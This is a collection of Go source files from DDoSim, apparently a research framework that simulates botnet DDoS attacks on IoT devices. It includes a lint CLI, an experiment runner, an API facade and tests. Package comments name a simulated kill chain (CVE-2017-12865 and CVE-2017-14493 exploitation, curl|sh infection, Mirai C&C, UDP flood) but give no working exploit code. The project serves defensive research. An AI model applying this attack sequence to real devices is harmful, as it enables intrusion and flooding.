	list := flag.Bool("list", false, "list the analyzers in the suite and exit")
	analyzer := flag.String("analyzer", "", "comma-separated analyzer names to run (default: the whole suite)")
	unusedAllows := flag.Bool("unused-allows", false, "also report //simlint:allow annotations that suppress nothing (full suite only)")
	inventory := flag.String("inventory", "", "write the shard-confinement access inventory as JSON to this path (\"-\" for stdout)")
	flag.Usage = func() {
		fmt.Fprintf(flag.CommandLine.Output(),
			"usage: simlint [-json] [-list] [-analyzer a,b] [-unused-allows] [-inventory out.json] [pattern ...]\n\n"+
				"Lints the packages matched by the go-tool-style patterns (default ./...)\n"+
				"with DDoSim's simulation-safety suite. Diagnostics are ordered by\n"+
				"(file, line, col, analyzer, message) in both text and -json output.\n\n"+
				"Analyzers (from the registered suite):\n%s\n"+
				"Exit codes:\n"+
				"  0  no findings\n"+
				"  1  findings reported\n"+
				"  2  load or usage error\n\nFlags:\n",
			suiteListing(lint.DefaultSuite()))
		flag.PrintDefaults()
	}
	flag.Parse()

	suite := lint.DefaultSuite()
	if *list {
		fmt.Print(suiteListing(suite))
		return 0
	}
	if *analyzer != "" {
		if *unusedAllows {
			fmt.Fprintln(os.Stderr, "simlint: -unused-allows requires the full suite (drop -analyzer)")
			return 2
		}
		selected, err := selectAnalyzers(suite, *analyzer)
		if err != nil {
			fmt.Fprintln(os.Stderr, "simlint:", err)
			return 2
		}
		suite = selected
	}

	cwd, err := os.Getwd()
	if err != nil {
		fmt.Fprintln(os.Stderr, "simlint:", err)
		return 2
	}
	loader, err := lint.NewLoader(cwd)
	if err != nil {
		fmt.Fprintln(os.Stderr, "simlint:", err)
		return 2
	}

	patterns := flag.Args()
	if len(patterns) == 0 {
		patterns = []string{"./..."}
	}
	var pkgs []*lint.Package
	for _, pat := range patterns {
		loaded, err := load(loader, cwd, pat)
		if err != nil {
			fmt.Fprintln(os.Stderr, "simlint:", err)
			return 2
		}
		pkgs = append(pkgs, loaded...)
	}

	if *inventory != "" {
		entries := lint.BuildInventory(pkgs)
		data, err := json.MarshalIndent(entries, "", "  ")
		if err != nil {
			fmt.Fprintln(os.Stderr, "simlint:", err)
			return 2
		}
		data = append(data, '\n')
		if *inventory == "-" {
			os.Stdout.Write(data)
		} else if err := os.WriteFile(*inventory, data, 0o644); err != nil {
			fmt.Fprintln(os.Stderr, "simlint:", err)
			return 2
		}
	}

	diags := lint.RunWith(pkgs, suite, lint.RunOpts{UnusedAllows: *unusedAllows})
	if *jsonOut {
		enc := json.NewEncoder(os.Stdout)
		enc.SetIndent("", "  ")
		if err := enc.Encode(diags); err != nil {
			fmt.Fprintln(os.Stderr, "simlint:", err)
			return 2
		}
	} else {
		for _, d := range diags {
			fmt.Println(d)
		}
	}
	if len(diags) > 0 {
		fmt.Fprintf(os.Stderr, "simlint: %d finding(s) in %d package(s)\n", len(diags), len(pkgs))
		return 1
	}
	return 0
}

// suiteListing renders the -list/-h analyzer table from the
// registered suite, so documentation cannot drift from the analyzers
// that actually run.
func suiteListing(suite []lint.Analyzer) string {
	var b strings.Builder
	for _, a := range suite {
		fmt.Fprintf(&b, "  %-13s %s\n", a.Name(), a.Doc())
	}
	return b.String()
}

// selectAnalyzers filters the suite down to the named analyzers,
// keeping suite order (which keeps paired analyzers on their shared
// engine together when both are named).
func selectAnalyzers(suite []lint.Analyzer, names string) ([]lint.Analyzer, error) {
	want := make(map[string]bool)
	for _, n := range strings.Split(names, ",") {
		n = strings.TrimSpace(n)
		if n == "" {
			continue
		}
		want[n] = true
	}
	var out []lint.Analyzer
	for _, a := range suite {
		if want[a.Name()] {
			out = append(out, a)
			delete(want, a.Name())
		}
	}
	if len(want) > 0 {
		var unknown []string
		for n := range want {
			unknown = append(unknown, n)
		}
		sort.Strings(unknown)
		return nil, fmt.Errorf("unknown analyzer(s) %s (see -list)", strings.Join(unknown, ", "))
	}
	if len(out) == 0 {
		return nil, fmt.Errorf("-analyzer selected nothing")
	}
	return out, nil
}

// load resolves one command-line pattern to packages. Relative
// patterns are anchored at the invoker's working directory, matching
// go-tool behaviour.
func load(loader *lint.Loader, cwd, pat string) ([]*lint.Package, error) {
	abs := func(p string) string {
		if p == "" {
			p = "."
		}
		if filepath.IsAbs(p) {
			return p
		}
		return filepath.Join(cwd, p)
	}
	if sub, ok := strings.CutSuffix(pat, "/..."); ok || pat == "..." {
		if pat == "..." {
			sub = "."
		}
		return loader.LoadAll(abs(sub))
	}
	pkg, err := loader.Load(abs(pat))
	if err != nil {
		return nil, err
	}
	return []*lint.Package{pkg}, nil
}
