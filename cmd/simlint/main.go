// Command simlint runs DDoSim's determinism and simulation-safety
// static analysis suite (internal/lint) over the module.
//
// Usage:
//
//	go run ./cmd/simlint [-json] [-list] [-analyzer a,b] [pattern ...]
//
// Patterns follow go-tool shape: "./..." (the default) lints every
// package in the module, "./internal/netsim/..." a subtree, and
// "./internal/netsim" a single package. -analyzer restricts the run
// to a comma-separated subset of the suite (see -list for names).
// Diagnostics print as "file:line:col analyzer: message" with paths
// relative to the module root, in a stable total order —
// (file, line, col, analyzer, message) — in both text and -json
// output, so CI logs and golden files diff cleanly run over run. The
// exit status is 0 when clean, 1 when findings exist, and 2 on load
// or usage errors — so CI can gate merges on it.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"

	"ddosim/internal/lint"
)

func main() {
	os.Exit(run())
}

func run() int {
	jsonOut := flag.Bool("json", false, "emit diagnostics as a JSON array")
	list := flag.Bool("list", false, "list the analyzers in the suite and exit")
	analyzer := flag.String("analyzer", "", "comma-separated analyzer names to run (default: the whole suite)")
	flag.Usage = func() {
		fmt.Fprintf(flag.CommandLine.Output(),
			"usage: simlint [-json] [-list] [-analyzer a,b] [pattern ...]\n\n"+
				"Lints the packages matched by the go-tool-style patterns (default ./...)\n"+
				"with DDoSim's simulation-safety suite. Diagnostics are ordered by\n"+
				"(file, line, col, analyzer, message) in both text and -json output.\n\n"+
				"Exit codes:\n"+
				"  0  no findings\n"+
				"  1  findings reported\n"+
				"  2  load or usage error\n\nFlags:\n")
		flag.PrintDefaults()
	}
	flag.Parse()

	suite := lint.DefaultSuite()
	if *list {
		for _, a := range suite {
			fmt.Printf("%-12s %s\n", a.Name(), a.Doc())
		}
		return 0
	}
	if *analyzer != "" {
		selected, err := selectAnalyzers(suite, *analyzer)
		if err != nil {
			fmt.Fprintln(os.Stderr, "simlint:", err)
			return 2
		}
		suite = selected
	}

	cwd, err := os.Getwd()
	if err != nil {
		fmt.Fprintln(os.Stderr, "simlint:", err)
		return 2
	}
	loader, err := lint.NewLoader(cwd)
	if err != nil {
		fmt.Fprintln(os.Stderr, "simlint:", err)
		return 2
	}

	patterns := flag.Args()
	if len(patterns) == 0 {
		patterns = []string{"./..."}
	}
	var pkgs []*lint.Package
	for _, pat := range patterns {
		loaded, err := load(loader, cwd, pat)
		if err != nil {
			fmt.Fprintln(os.Stderr, "simlint:", err)
			return 2
		}
		pkgs = append(pkgs, loaded...)
	}

	diags := lint.Run(pkgs, suite)
	if *jsonOut {
		enc := json.NewEncoder(os.Stdout)
		enc.SetIndent("", "  ")
		if err := enc.Encode(diags); err != nil {
			fmt.Fprintln(os.Stderr, "simlint:", err)
			return 2
		}
	} else {
		for _, d := range diags {
			fmt.Println(d)
		}
	}
	if len(diags) > 0 {
		fmt.Fprintf(os.Stderr, "simlint: %d finding(s) in %d package(s)\n", len(diags), len(pkgs))
		return 1
	}
	return 0
}

// selectAnalyzers filters the suite down to the named analyzers,
// keeping suite order (which keeps paired analyzers on their shared
// engine together when both are named).
func selectAnalyzers(suite []lint.Analyzer, names string) ([]lint.Analyzer, error) {
	want := make(map[string]bool)
	for _, n := range strings.Split(names, ",") {
		n = strings.TrimSpace(n)
		if n == "" {
			continue
		}
		want[n] = true
	}
	var out []lint.Analyzer
	for _, a := range suite {
		if want[a.Name()] {
			out = append(out, a)
			delete(want, a.Name())
		}
	}
	if len(want) > 0 {
		var unknown []string
		for n := range want {
			unknown = append(unknown, n)
		}
		sort.Strings(unknown)
		return nil, fmt.Errorf("unknown analyzer(s) %s (see -list)", strings.Join(unknown, ", "))
	}
	if len(out) == 0 {
		return nil, fmt.Errorf("-analyzer selected nothing")
	}
	return out, nil
}

// load resolves one command-line pattern to packages. Relative
// patterns are anchored at the invoker's working directory, matching
// go-tool behaviour.
func load(loader *lint.Loader, cwd, pat string) ([]*lint.Package, error) {
	abs := func(p string) string {
		if p == "" {
			p = "."
		}
		if filepath.IsAbs(p) {
			return p
		}
		return filepath.Join(cwd, p)
	}
	if sub, ok := strings.CutSuffix(pat, "/..."); ok || pat == "..." {
		if pat == "..." {
			sub = "."
		}
		return loader.LoadAll(abs(sub))
	}
	pkg, err := loader.Load(abs(pat))
	if err != nil {
		return nil, err
	}
	return []*lint.Package{pkg}, nil
}
