// Command simlint runs DDoSim's determinism and simulation-safety
// static analysis suite (internal/lint) over the module.
//
// Usage:
//
//	go run ./cmd/simlint [-json] [-list] [pattern ...]
//
// Patterns follow go-tool shape: "./..." (the default) lints every
// package in the module, "./internal/netsim/..." a subtree, and
// "./internal/netsim" a single package. Diagnostics print as
// "file:line:col analyzer: message" with paths relative to the module
// root; -json emits the same findings as a JSON array. The exit
// status is 0 when clean, 1 when findings exist, and 2 on load or
// usage errors — so CI can gate merges on it.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"ddosim/internal/lint"
)

func main() {
	os.Exit(run())
}

func run() int {
	jsonOut := flag.Bool("json", false, "emit diagnostics as a JSON array")
	list := flag.Bool("list", false, "list the analyzers in the suite and exit")
	flag.Parse()

	suite := lint.DefaultSuite()
	if *list {
		for _, a := range suite {
			fmt.Printf("%-12s %s\n", a.Name(), a.Doc())
		}
		return 0
	}

	cwd, err := os.Getwd()
	if err != nil {
		fmt.Fprintln(os.Stderr, "simlint:", err)
		return 2
	}
	loader, err := lint.NewLoader(cwd)
	if err != nil {
		fmt.Fprintln(os.Stderr, "simlint:", err)
		return 2
	}

	patterns := flag.Args()
	if len(patterns) == 0 {
		patterns = []string{"./..."}
	}
	var pkgs []*lint.Package
	for _, pat := range patterns {
		loaded, err := load(loader, cwd, pat)
		if err != nil {
			fmt.Fprintln(os.Stderr, "simlint:", err)
			return 2
		}
		pkgs = append(pkgs, loaded...)
	}

	diags := lint.Run(pkgs, suite)
	if *jsonOut {
		enc := json.NewEncoder(os.Stdout)
		enc.SetIndent("", "  ")
		if err := enc.Encode(diags); err != nil {
			fmt.Fprintln(os.Stderr, "simlint:", err)
			return 2
		}
	} else {
		for _, d := range diags {
			fmt.Println(d)
		}
	}
	if len(diags) > 0 {
		fmt.Fprintf(os.Stderr, "simlint: %d finding(s) in %d package(s)\n", len(diags), len(pkgs))
		return 1
	}
	return 0
}

// load resolves one command-line pattern to packages. Relative
// patterns are anchored at the invoker's working directory, matching
// go-tool behaviour.
func load(loader *lint.Loader, cwd, pat string) ([]*lint.Package, error) {
	abs := func(p string) string {
		if p == "" {
			p = "."
		}
		if filepath.IsAbs(p) {
			return p
		}
		return filepath.Join(cwd, p)
	}
	if sub, ok := strings.CutSuffix(pat, "/..."); ok || pat == "..." {
		if pat == "..." {
			sub = "."
		}
		return loader.LoadAll(abs(sub))
	}
	pkg, err := loader.Load(abs(pat))
	if err != nil {
		return nil, err
	}
	return []*lint.Package{pkg}, nil
}
