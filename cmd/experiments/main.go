// Command experiments regenerates the paper's evaluation artifacts:
// Figure 2 (received rate vs Devs × churn), Figure 3 (received rate
// vs attack duration), Table I (resource usage), and Figure 4
// (DDoSim vs the independent hardware model) — plus two extensions:
// recruit (infection rate vs attack vector and credential hygiene)
// and resilience (botnet performance vs fault-injection intensity).
//
// Examples:
//
//	experiments -exp all
//	experiments -exp fig2 -seeds 5
//	experiments -exp fig4 -quick
//	experiments -exp resilience -seeds 5
//	experiments -exp all -csv results/
//	experiments -exp fig2 -trace-dir traces/   # per-run Perfetto traces + metrics
//	experiments -exp recruit -flows-out flows/ -ts-out ts/   # labeled flow datasets + windowed metrics
package main

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"ddosim/internal/experiments"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "experiments:", err)
		os.Exit(1)
	}
}

func run() error {
	var (
		exp      = flag.String("exp", "all", "experiment: fig2|fig3|table1|fig4|recruit|resilience|p2p|all")
		seeds    = flag.Int("seeds", 3, "number of seeds to average over")
		quick    = flag.Bool("quick", false, "shrink sweeps for a fast smoke run")
		csvDir   = flag.String("csv", "", "directory to write CSV files into (optional)")
		traceDir = flag.String("trace-dir", "", "directory to write per-run Chrome traces and metrics dumps into (optional)")
		flowsDir = flag.String("flows-out", "", "directory to write per-run labeled flow datasets (<label>.flows.csv) into (optional)")
		tsDir    = flag.String("ts-out", "", "directory to write per-run windowed time series (<label>.ts.csv) into (optional)")
		window   = flag.Float64("window", 0, "time-series window size in seconds (0 = default 1 s)")
	)
	flag.Parse()

	if *window < 0 {
		return fmt.Errorf("window size must not be negative, got %v", *window)
	}
	opt := experiments.Options{
		Quick:    *quick,
		TraceDir: *traceDir,
		FlowsDir: *flowsDir,
		TSDir:    *tsDir,
		Window:   experiments.Window(*window),
	}
	for s := 1; s <= *seeds; s++ {
		opt.Seeds = append(opt.Seeds, int64(s))
	}

	want := func(name string) bool { return *exp == "all" || *exp == name }
	ran := false

	if want("fig2") {
		ran = true
		rows, err := experiments.Fig2(opt)
		if err != nil {
			return err
		}
		fmt.Println(experiments.RenderFig2(rows))
		if err := writeCSV(*csvDir, "fig2.csv", fig2CSV(rows)); err != nil {
			return err
		}
	}
	if want("fig3") {
		ran = true
		rows, err := experiments.Fig3(opt)
		if err != nil {
			return err
		}
		fmt.Println(experiments.RenderFig3(rows))
		if err := writeCSV(*csvDir, "fig3.csv", fig3CSV(rows)); err != nil {
			return err
		}
	}
	if want("table1") {
		ran = true
		rows, err := experiments.Table1(opt)
		if err != nil {
			return err
		}
		fmt.Println(experiments.RenderTable1(rows))
		if err := writeCSV(*csvDir, "table1.csv", table1CSV(rows)); err != nil {
			return err
		}
	}
	if want("fig4") {
		ran = true
		rows, err := experiments.Fig4(opt)
		if err != nil {
			return err
		}
		fmt.Println(experiments.RenderFig4(rows))
		if err := writeCSV(*csvDir, "fig4.csv", fig4CSV(rows)); err != nil {
			return err
		}
	}
	if want("recruit") {
		ran = true
		rows, err := experiments.Recruitment(opt)
		if err != nil {
			return err
		}
		fmt.Println(experiments.RenderRecruitment(rows))
		if err := writeCSV(*csvDir, "recruit.csv", recruitCSV(rows)); err != nil {
			return err
		}
	}
	if want("resilience") {
		ran = true
		rows, err := experiments.Resilience(opt)
		if err != nil {
			return err
		}
		fmt.Println(experiments.RenderResilience(rows))
		if err := writeCSV(*csvDir, "resilience.csv", resilienceCSV(rows)); err != nil {
			return err
		}
	}
	if want("p2p") {
		ran = true
		rows, err := experiments.P2P(opt)
		if err != nil {
			return err
		}
		fmt.Println(experiments.RenderP2P(rows))
		if err := writeCSV(*csvDir, "p2p.csv", p2pCSV(rows)); err != nil {
			return err
		}
	}
	if !ran {
		return fmt.Errorf("unknown experiment %q (fig2|fig3|table1|fig4|recruit|resilience|p2p|all)", *exp)
	}
	return nil
}

func writeCSV(dir, name, content string) error {
	if dir == "" {
		return nil
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	path := filepath.Join(dir, name)
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		return err
	}
	fmt.Printf("wrote %s\n\n", path)
	return nil
}

func fig2CSV(rows []experiments.Fig2Row) string {
	var b strings.Builder
	b.WriteString("devs,churn,d_received_kbps\n")
	for _, r := range rows {
		fmt.Fprintf(&b, "%d,%s,%.2f\n", r.Devs, r.Mode, r.DReceivedKbps)
	}
	return b.String()
}

func fig3CSV(rows []experiments.Fig3Row) string {
	var b strings.Builder
	b.WriteString("devs,duration_s,d_received_kbps\n")
	for _, r := range rows {
		fmt.Fprintf(&b, "%d,%d,%.2f\n", r.Devs, r.DurationSecs, r.DReceivedKbps)
	}
	return b.String()
}

func table1CSV(rows []experiments.Table1Row) string {
	var b strings.Builder
	b.WriteString("devs,pre_attack_mem_gb,attack_mem_gb,attack_time\n")
	for _, r := range rows {
		fmt.Fprintf(&b, "%d,%.2f,%.2f,%s\n", r.Devs, r.PreAttackMemGB, r.AttackMemGB, strconv.Quote(r.AttackTime))
	}
	return b.String()
}

func recruitCSV(rows []experiments.RecruitRow) string {
	var b strings.Builder
	b.WriteString("vector,weak_cred_fraction,infection_rate,mean_recruit_s\n")
	for _, r := range rows {
		fmt.Fprintf(&b, "%s,%.2f,%.4f,%.1f\n", r.Vector, r.WeakCredFraction, r.InfectionRate, r.MeanRecruitSecs)
	}
	return b.String()
}

func resilienceCSV(rows []experiments.ResilienceRow) string {
	var b strings.Builder
	b.WriteString("intensity,d_received_kbps,infection_rate,mean_recruit_s,faults_per_run,loader_redials\n")
	for _, r := range rows {
		fmt.Fprintf(&b, "%.2f,%.2f,%.4f,%.1f,%.1f,%.1f\n",
			r.Intensity, r.DReceivedKbps, r.InfectionRate, r.MeanRecruitSecs,
			r.FaultEvents, r.LoaderRedials)
	}
	return b.String()
}

func p2pCSV(rows []experiments.P2PRow) string {
	var b strings.Builder
	b.WriteString("family,intensity,infection_rate,dissem_latency_s,d_received_kbps,pre_takedown_kbps,post_takedown_kbps,sustain_ratio\n")
	for _, r := range rows {
		fmt.Fprintf(&b, "%s,%.2f,%.4f,%.2f,%.2f,%.2f,%.2f,%.4f\n",
			r.Family, r.Intensity, r.InfectionRate, r.DissemLatencySecs,
			r.DReceivedKbps, r.PreTakedownKbps, r.PostTakedownKbps, r.SustainRatio)
	}
	return b.String()
}

func fig4CSV(rows []experiments.Fig4Row) string {
	var b strings.Builder
	b.WriteString("devs,ddosim_kbps,hardware_kbps,relative_error\n")
	for _, r := range rows {
		fmt.Fprintf(&b, "%d,%.2f,%.2f,%.4f\n", r.Devs, r.DDoSimKbps, r.HardwareKbps, r.RelativeError)
	}
	return b.String()
}
