package ddosim

import (
	"net/netip"

	"ddosim/internal/defense"
	"ddosim/internal/epidemic"
	"ddosim/internal/metrics"
	"ddosim/internal/netsim"
)

// This file re-exports the §V use-case toolkits — defense testing and
// botnet-spread modeling — so downstream code can drive them through
// the public API.

// Node is a simulated network endpoint (TServer, attacker, Devs).
type Node = netsim.Node

// Sink is TServer's measurement application.
type Sink = netsim.Sink

// Star is the router-centric topology helper; Simulation.Star exposes
// the live instance for attaching extra hosts.
type Star = netsim.Star

// Timeline is the run's event log.
type Timeline = metrics.Timeline

// --- Traffic analysis ---

// Capture is a tcpdump-style packet capture on a node.
type Capture = netsim.Capture

// FlowMonitor aggregates per-flow statistics on a node.
type FlowMonitor = netsim.FlowMonitor

// StartCapture installs a packet capture keeping at most max entries
// (max <= 0 keeps everything).
func StartCapture(n *Node, max int) *Capture { return netsim.StartCapture(n, max) }

// InstallFlowMonitor attaches a per-flow statistics monitor.
func InstallFlowMonitor(n *Node) *FlowMonitor { return netsim.InstallFlowMonitor(n) }

// --- Defense testing (§V-A) ---

// TrafficExtractor aggregates per-second traffic features at a node.
type TrafficExtractor = defense.Extractor

// FeatureVector is one second of extracted features.
type FeatureVector = defense.FeatureVector

// DetectorSample is one labeled training instance.
type DetectorSample = defense.Sample

// Detector is a logistic-regression DDoS classifier.
type Detector = defense.Logistic

// Confusion tallies detector outcomes.
type Confusion = defense.Confusion

// NewTrafficExtractor installs a feature extractor on a node
// (typically Simulation.TServer()).
func NewTrafficExtractor(n *Node) *TrafficExtractor { return defense.NewExtractor(n) }

// TrainDetector fits a detector on labeled windows.
func TrainDetector(samples []DetectorSample, epochs int, lr float64, seed int64) *Detector {
	return defense.Train(samples, epochs, lr, seed)
}

// EvaluateDetector classifies samples and tallies the confusion
// matrix.
func EvaluateDetector(m *Detector, samples []DetectorSample) Confusion {
	return defense.Evaluate(m, samples)
}

// InstallBenignClients attaches n benign telemetry clients to the
// simulation's star, pointed at dst.
func InstallBenignClients(star *Star, dst netip.AddrPort, n int, namePrefix string) error {
	_, err := defense.InstallBenignClients(star, dst, n, namePrefix)
	return err
}

// RateLimiter is a deployable per-source token-bucket mitigation.
type RateLimiter = defense.RateLimiter

// InstallRateLimiter deploys a per-source token-bucket firewall on a
// node (typically TServer): sustained bytesPerSec per source,
// burstBytes depth, permanent blacklisting after blacklistAfter
// dropped packets (0 disables).
func InstallRateLimiter(node *Node, bytesPerSec, burstBytes float64, blacklistAfter int) *RateLimiter {
	return defense.InstallRateLimiter(node, bytesPerSec, burstBytes, blacklistAfter)
}

// --- Botnet-spread modeling (§V-B) ---

// InfectionCurve is a measured cumulative-infections curve.
type InfectionCurve = epidemic.Curve

// FitInfectionLambda fits the external-force model
// dI/dt = lambda (N - I) to a measured curve, returning the rate and
// the fit RMSE.
func FitInfectionLambda(c InfectionCurve, n int, horizonSecs float64) (lambda, rmse float64) {
	return epidemic.FitLambda(c, n, horizonSecs)
}

// FitInfectionBeta fits the SI contact model to a measured curve.
func FitInfectionBeta(c InfectionCurve, n int, horizonSecs float64) (beta, rmse float64) {
	return epidemic.FitBeta(c, n, horizonSecs)
}

// SimulateExternalInfection integrates the external-force model.
func SimulateExternalInfection(lambda float64, n int, dt, horizonSecs float64) (times, infected []float64) {
	return epidemic.SimulateExternal(epidemic.ExternalParams{Lambda: lambda, N: float64(n)}, dt, horizonSecs)
}

// InfectionCurveFromTimeline extracts the measured infection curve
// from a run's timeline.
func InfectionCurveFromTimeline(tl *Timeline) InfectionCurve {
	times, counts := tl.CumulativeCurve(EventExploitHit)
	return InfectionCurve{Times: times, Counts: counts}
}
