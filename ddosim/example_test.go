package ddosim_test

import (
	"fmt"

	"ddosim/ddosim"
)

// Example runs the paper's headline scenario at miniature scale: ten
// IoT devices are exploited through memory-error vulnerabilities,
// recruited into a Mirai botnet, and ordered to flood TServer.
func Example() {
	cfg := ddosim.DefaultConfig(10)
	cfg.SimDuration = 300 * ddosim.Second
	cfg.AttackDuration = 30
	cfg.RecruitTimeout = 60 * ddosim.Second

	results, err := ddosim.Run(cfg)
	if err != nil {
		fmt.Println("error:", err)
		return
	}
	fmt.Printf("infected: %d/%d\n", results.Infected, results.DevsTotal)
	fmt.Printf("bots ordered to attack: %d\n", results.BotsAtCommand)
	fmt.Printf("attack measured: %v\n", results.DReceivedKbps > 0)
	// Output:
	// infected: 10/10
	// bots ordered to attack: 10
	// attack measured: true
}

// Example_hardened shows the countermeasure: PIE rebuilds with ASLR
// defeat the ROP chain, so every exploit attempt crashes the daemon
// and nothing is recruited.
func Example_hardened() {
	cfg := ddosim.DefaultConfig(10)
	cfg.SimDuration = 300 * ddosim.Second
	cfg.AttackDuration = 30
	cfg.RecruitTimeout = 60 * ddosim.Second
	cfg.Hardened = true
	cfg.RandomProtections = false

	results, err := ddosim.Run(cfg)
	if err != nil {
		fmt.Println("error:", err)
		return
	}
	fmt.Printf("infected: %d\n", results.Infected)
	fmt.Printf("daemons crashed: %v\n", results.Crashed > 0)
	// Output:
	// infected: 0
	// daemons crashed: true
}
