package ddosim_test

import (
	"testing"

	"ddosim/ddosim"
)

func smallConfig(devs int) ddosim.Config {
	cfg := ddosim.DefaultConfig(devs)
	cfg.SimDuration = 300 * ddosim.Second
	cfg.AttackDuration = 30
	cfg.RecruitTimeout = 90 * ddosim.Second
	return cfg
}

func TestRunFacade(t *testing.T) {
	r, err := ddosim.Run(smallConfig(8))
	if err != nil {
		t.Fatal(err)
	}
	if r.Infected != 8 || r.InfectionRate() != 1.0 {
		t.Fatalf("infected = %d", r.Infected)
	}
	if r.DReceivedKbps <= 0 {
		t.Fatal("no measured attack traffic")
	}
}

func TestNewExposesComponents(t *testing.T) {
	s, err := ddosim.New(smallConfig(4))
	if err != nil {
		t.Fatal(err)
	}
	if s.CNC() == nil || s.Sink() == nil || s.TServer() == nil || s.Attacker() == nil {
		t.Fatal("missing component accessors")
	}
	if got := len(s.Devs()); got != 4 {
		t.Fatalf("devs = %d", got)
	}
	if s.Sched() == nil || s.Network() == nil || s.Engine() == nil || s.Timeline() == nil {
		t.Fatal("missing infrastructure accessors")
	}
}

func TestInvalidConfigRejected(t *testing.T) {
	cfg := smallConfig(0)
	if _, err := ddosim.Run(cfg); err == nil {
		t.Fatal("zero devs accepted")
	}
}

func TestParseChurnMode(t *testing.T) {
	m, err := ddosim.ParseChurnMode("dynamic")
	if err != nil || m != ddosim.ChurnDynamic {
		t.Fatalf("got %v, %v", m, err)
	}
	if _, err := ddosim.ParseChurnMode("bogus"); err == nil {
		t.Fatal("bogus mode accepted")
	}
}

func TestChurnModesRunnable(t *testing.T) {
	for _, mode := range []ddosim.ChurnMode{
		ddosim.ChurnNone, ddosim.ChurnStatic, ddosim.ChurnDynamic, ddosim.ChurnSessions,
	} {
		cfg := smallConfig(6)
		cfg.Churn = mode
		if _, err := ddosim.Run(cfg); err != nil {
			t.Fatalf("mode %v: %v", mode, err)
		}
	}
}
