// Package ddosim is the public API of DDoSim, a framework for
// simulating and assessing large-scale botnet DDoS attacks
// (Obaidat et al., DSN 2023), reimplemented from scratch in pure Go.
//
// A Simulation assembles three components on a simulated network:
//
//   - Attacker: a container hosting exploit & infection scripts (a
//     malicious DNS server targeting Connman's CVE-2017-12865 and a
//     DHCPv6 RELAY-FORW sender targeting Dnsmasq's CVE-2017-14493),
//     the Mirai C&C server, and a file server with the infection
//     script and arch-specific bot binaries.
//   - Devs: N containers running vulnerable IoT daemons over
//     100–500 kbps links, each with a random subset of W^X and ASLR.
//   - TServer: a sink node recording per-second received traffic.
//
// Running a Simulation executes the whole kill chain — ROP
// exploitation, curl|sh infection, C&C registration, UDP-PLAIN flood —
// optionally under static or dynamic IoT churn, and returns the
// measurements the paper reports (average received data rate,
// infection rate, resource usage).
//
// Quickstart:
//
//	cfg := ddosim.DefaultConfig(50)
//	cfg.Churn = ddosim.ChurnDynamic
//	r, err := ddosim.Run(cfg)
//	if err != nil { ... }
//	fmt.Println(r.Summary())
package ddosim

import (
	"ddosim/internal/churn"
	"ddosim/internal/core"
	"ddosim/internal/faults"
	"ddosim/internal/mirai"
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// Config parameterizes a run. See core.Config for field docs.
type Config = core.Config

// Results carries a run's measurements. See core.Results.
type Results = core.Results

// Simulation is a fully-built testbed instance.
type Simulation = core.Simulation

// Dev is one simulated IoT device.
type Dev = core.Dev

// ChurnMode selects the §IV-A membership model.
type ChurnMode = churn.Mode

// Time is a point or span of simulated time in nanoseconds.
type Time = sim.Time

// QueueKind selects the event-queue backend for Config.SchedQueue.
// Backends are byte-identical on the same seed; the choice only
// affects speed. Config.Shards (>= 1) similarly selects the sharded
// parallel kernel — one logical-process shard per scheduler, conservative
// lookahead synchronization — whose artifacts are byte-identical across
// shard counts for the same seed; 0 keeps the classic single-queue
// kernel and its legacy artifact family.
type QueueKind = sim.QueueKind

// Event-queue backends, mirroring NS-3's scheduler family.
const (
	QueueHeap     = sim.QueueHeap
	QueueCalendar = sim.QueueCalendar
)

// DataRate is a link rate in bits per second.
type DataRate = netsim.DataRate

// Churn modes.
const (
	ChurnNone    = churn.None
	ChurnStatic  = churn.Static
	ChurnDynamic = churn.Dynamic
	// ChurnSessions is an alternative exponential on/off model from
	// the P2P/IoT literature, provided for comparison with the
	// paper's Fan et al. model.
	ChurnSessions = churn.Sessions
)

// Dev binaries.
const (
	BinaryConnman = core.BinaryConnman
	BinaryDnsmasq = core.BinaryDnsmasq
	BinaryTelnetd = core.BinaryTelnetd
)

// Attack methods for Config.AttackMethod.
const (
	MethodUDPPlain = mirai.MethodUDPPlain
	MethodSYN      = mirai.MethodSYN
	MethodACK      = mirai.MethodACK
)

// FaultsConfig parameterizes the deterministic fault-injection
// subsystem for Config.Faults: link flaps, loss bursts, rate/queue
// degradation windows, process crashes, and C&C outages. The zero
// value disables injection entirely.
type FaultsConfig = faults.Config

// FaultStats counts the faults a run injected; exposed on Results.
type FaultStats = faults.Stats

// RecruitVector selects how the attacker recruits Devs.
type RecruitVector = core.RecruitVector

// Recruitment vectors: the paper's memory-error exploitation, and the
// classic Mirai credential-dictionary baseline.
const (
	VectorMemoryError = core.VectorMemoryError
	VectorCredentials = core.VectorCredentials
)

// Botnet families for Config.Botnet: the centralized Mirai C&C
// (default) and the Kademlia-overlay P2P family.
const (
	BotnetMirai = core.BotnetMirai
	BotnetP2P   = core.BotnetP2P
)

// Timeline event kinds recorded during a run.
const (
	EventExploitHit   = core.EventExploitHit
	EventExploitCrash = core.EventExploitCrash
	EventBotJoined    = core.EventBotJoined
	EventBotLost      = core.EventBotLost
	EventAttackOrder  = core.EventAttackOrder
	EventFloodStart   = core.EventFloodStart
	EventChurnOffline = core.EventChurnOffline
	EventChurnOnline  = core.EventChurnOnline
)

// Data-rate units for Config fields.
const (
	Kbps = netsim.Kbps
	Mbps = netsim.Mbps
	Gbps = netsim.Gbps
)

// Time units for Config fields.
const (
	Millisecond = sim.Millisecond
	Second      = sim.Second
	Minute      = sim.Minute
)

// DefaultConfig returns the paper's baseline parameters for a fleet
// of numDevs devices.
func DefaultConfig(numDevs int) Config { return core.DefaultConfig(numDevs) }

// New builds a Simulation without running it, for callers that want
// to inspect or extend the testbed (install taps, add traffic, drive
// the scheduler manually).
func New(cfg Config) (*Simulation, error) { return core.New(cfg) }

// Run builds and executes a Simulation, returning its measurements.
func Run(cfg Config) (*Results, error) {
	s, err := core.New(cfg)
	if err != nil {
		return nil, err
	}
	return s.Run()
}

// ParseChurnMode converts a CLI string (none|static|dynamic) into a
// ChurnMode.
func ParseChurnMode(s string) (ChurnMode, error) { return churn.ParseMode(s) }

